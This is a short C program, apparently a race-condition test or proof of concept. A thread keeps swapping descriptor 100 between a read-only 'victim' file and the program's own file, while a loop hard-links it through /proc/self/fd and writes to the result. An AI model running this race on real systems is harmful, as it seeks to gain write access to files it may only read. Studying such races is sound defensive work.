/*
 * A descriptor that is another file from one moment to the next:
 *
 *	flipped SECONDS
 *
 * A thread makes one number a file that was there ("victim", read only) and one
 * of our own ("mine") in turns; we change modes by it and give it a name, and
 * write to what got that.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { NUMBER = 100 };

static int files[2];

static void *flip(void *arg)
{
	for (unsigned int i = 0;; i++) {
		(void)dup2(files[i % 2], NUMBER);
		for (volatile int k = rand() % 3000; k > 0; k--)
			;
	}
	return arg;
}

static void write_to_name(void)
{
	int fd = open("got", O_WRONLY | O_APPEND);

	if (fd >= 0) {
		(void)!write(fd, "x", 1);
		(void)close(fd);
	}
	(void)unlink("got");
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
	pthread_t thread;

	(void)close(open("mine", O_WRONLY | O_CREAT, 0644));
	files[0] = open("victim", O_RDONLY);
	files[1] = open("mine", O_RDONLY);
	(void)dup2(files[1], NUMBER);
	if (files[0] < 0 || files[1] < 0 ||
	    pthread_create(&thread, NULL, flip, NULL))
		return 1;
	while (time(NULL) < end) {
		(void)fchmod(NUMBER, 0640);
		if (linkat(AT_FDCWD, "/proc/self/fd/100", AT_FDCWD, "got",
			   AT_SYMLINK_FOLLOW) == 0)
			write_to_name();
	}
	return 0;
}
